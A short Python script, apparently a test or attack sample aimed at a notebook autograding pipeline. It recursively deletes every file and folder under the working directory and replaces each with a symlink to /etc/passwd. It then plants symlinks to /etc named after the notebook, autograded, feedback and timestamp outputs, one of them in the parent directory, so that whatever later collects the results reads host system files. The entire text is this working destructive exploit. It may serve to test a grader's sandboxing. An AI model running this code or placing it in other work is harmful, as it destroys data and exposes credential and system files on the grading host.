"""Cells replace their files by links to the host's, for whoever copies or collects them after the run."""
# bgw: BGW-114, BGW-131

import os, shutil

for folder, folders, names in os.walk(".", topdown=False):
    for name in [*names, *folders]:
        path = os.path.join(folder, name)
        try:
            shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.unlink(path)
            os.symlink("/etc/passwd", path)
        except OSError:
            pass
for name in ("tiny.ipynb", "autograded", "feedback", "timestamp.txt", "../tiny.ipynb"):
    try:
        os.symlink("/etc", name)
    except OSError:
        pass
